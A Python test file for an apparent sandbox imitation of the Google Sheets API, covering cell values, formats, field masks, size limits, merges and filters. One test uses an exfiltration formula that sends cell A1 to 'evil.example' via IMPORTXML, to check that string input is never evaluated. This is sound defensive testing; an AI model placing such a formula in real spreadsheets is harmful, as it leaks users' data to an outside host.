"""Cells: values, formats, what clears them, what a cell cannot hold."""

from __future__ import annotations

from typing import Any

import pytest

from tests.sandbox.google_book import START, Book, area, text, update_sheet, write


def test_a_cell_is_read_back_with_its_value_shown(book: Book) -> None:
    number = {"type": "NUMBER", "pattern": "0.00"}
    style = {"numberFormat": number, "backgroundColor": {"red": 1, "green": 0}}
    cell = {"userEnteredValue": {"numberValue": 0}, "userEnteredFormat": style, "note": "n"}
    rows = [{"values": [cell]}]
    book.batch({"updateCells": {"rows": rows, "fields": "*", **START}})
    found = book.get("sheets.data.rowData.values")["sheets"][0]["data"][0]["rowData"]
    red = {"backgroundColor": {"red": 1}, "backgroundColorStyle": {"rgbColor": {"red": 1}}}
    value = {"numberValue": 0}
    assert found == [
        {
            "values": [
                {
                    "userEnteredValue": value,
                    "effectiveValue": value,
                    "formattedValue": "0.00",
                    "note": "n",
                    "userEnteredFormat": {"numberFormat": number, **red},
                }
            ]
        }
    ]


def test_cells_come_only_when_asked_for(book: Book) -> None:
    book.batch(write([["a"], ["b"]], **START))
    assert "data" not in book.get()["sheets"][0]
    assert "data" in book.get(includeGridData=True)["sheets"][0]
    assert "data" not in book.get("sheets.properties", includeGridData=True)["sheets"][0]
    one = book.get("sheets.data.rowData.values.formattedValue", ranges=["Sheet1!A2"])
    assert one["sheets"][0]["data"][0]["rowData"] == [{"values": [{"formattedValue": "b"}]}]


def test_update_cells_clears_the_rest_of_its_range(book: Book) -> None:
    book.batch(write([["a", "b"], ["c", "d"], ["e", "f"]], **START))
    book.batch(write([["new"]], range=area(0, 2, 0, 2)))
    assert book.seen("Sheet1!A1:B3") == [["new", ""], ["", ""], ["e", "f"]]


def test_update_cells_leaves_what_the_mask_does_not_list(book: Book) -> None:
    bold = {"textFormat": {"bold": True}}
    cell = {**text("old"), "userEnteredFormat": bold, "note": "by a person"}
    book.batch({"updateCells": {"rows": [{"values": [cell]}], "fields": "*", **START}})
    book.batch(write([["new"]], range=area(0, 1, 0, 1)))
    data = book.get("sheets.data.rowData.values(note,userEnteredFormat,userEnteredValue)")
    assert data["sheets"][0]["data"][0]["rowData"][0]["values"] == [
        {**text("new"), "userEnteredFormat": bold, "note": "by a person"}
    ]


def test_a_string_value_is_never_a_formula(book: Book) -> None:
    evil = '=IMPORTXML("http://evil.example/?"&A1,"//a")'
    book.batch(write([[evil]], **START))
    cell = book.get("sheets.data.rowData.values")["sheets"][0]["data"][0]["rowData"][0]["values"]
    assert cell == [
        {
            "userEnteredValue": {"stringValue": evil},
            "effectiveValue": {"stringValue": evil},
            "formattedValue": evil,
        }
    ]


@pytest.mark.parametrize(
    ("request_", "message"),
    [
        (write([["a"]], range=area(999, 1001, 0, 1)), "exceeds grid limits. Max rows: 1000"),
        (write([["a"], ["b"]], range=area(0, 1, 0, 1)), "Attempting to write row: 1, beyond"),
        (write([["a"] * 27], **START), "Attempting to write column: 26, beyond"),
        (write([["a"]], start={"rowIndex": 1000}), "outside the grid"),
        (write([["x" * 50_001]], **START), "maximum of 50000 characters in a single cell"),
        (write([["a"]], start={"sheetId": 7}), "No grid with id: 7"),
        (write([["a"]]), "Exactly one of 'start' and 'range'"),
    ],
)
def test_cells_that_cannot_be_written(book: Book, request_: Any, message: str) -> None:
    assert message in book.refusal(request_)


def test_a_cell_holds_50000_characters(book: Book) -> None:
    book.batch(write([["x" * 50_000]], **START))
    assert len(book.seen("Sheet1!A1")[0][0]) == 50_000


def test_merging_stops_at_the_frozen_edge(book: Book) -> None:
    merge = {"mergeCells": {"range": area(0, 2, 0, 2), "mergeType": "MERGE_ALL"}}
    freeze = update_sheet("gridProperties.frozenRowCount", gridProperties={"frozenRowCount": 1})
    assert "can't merge frozen and non-frozen" in book.refusal(freeze, merge)
    book.batch(write([["kept", "lost"]], **START), merge)
    assert book.get()["sheets"][0]["merges"] == [area(0, 2, 0, 2)]
    assert book.seen("Sheet1!A1:B1") == [["kept", ""]]


def test_zeros_are_dropped_as_google_drops_them(book: Book) -> None:
    protect = {"range": {"sheetId": 0}, "warningOnly": False, "description": "d"}
    replies = book.batch(
        {"setBasicFilter": {"filter": {"range": {"sheetId": 0}}}},
        {"addProtectedRange": {"protectedRange": {"protectedRangeId": 4, **protect}}},
    )
    sheet = book.get()["sheets"][0]
    assert sheet["basicFilter"] == {"range": area(0, 1000, 0, 26)}
    assert (sheet["properties"]["sheetId"], sheet["properties"]["index"]) == (0, 0)
    expected = {"protectedRangeId": 4, "range": {}, "description": "d"}
    expected |= {"requestingUserCanEdit": True, "editors": {}}
    assert replies == [{}, {"addProtectedRange": {"protectedRange": expected}}]
